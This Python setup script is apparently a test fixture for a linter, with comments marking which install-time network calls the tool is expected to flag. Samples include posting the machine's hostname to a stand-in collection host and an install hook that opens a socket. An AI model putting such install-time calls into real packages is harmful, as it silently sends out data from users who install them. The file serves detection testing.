"""Network access while a setup script runs."""
import socket
import urllib.request

import requests
from setuptools import setup
from setuptools.command.install import install

data = urllib.request.urlopen("http://203.0.113.7/cfg").read()  # want "urllib.request.urlopen reaches the network at install time"

try:
    requests.post("https://collect.example/i", data={"h": socket.gethostname()})  # want "requests.post reaches the network at install time"
except Exception:
    pass


def fetch_later():
    # Only runs if the user calls it: not install time.
    return requests.get("https://example.org/data.json")


def ping():
    s = socket.create_connection(("203.0.113.7", 80))  # want "socket.create_connection reaches the network"
    s.close()


class Install(install):
    def run(self):
        ping()
        install.run(self)


requests.packages.urllib3.disable_warnings()
setup(name="example", cmdclass={"install": Install})

probe = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
probe.close()
sock = socket.socket()
sock.connect(("203.0.113.7", 8080))  # want "socket.connect reaches the network at install time"
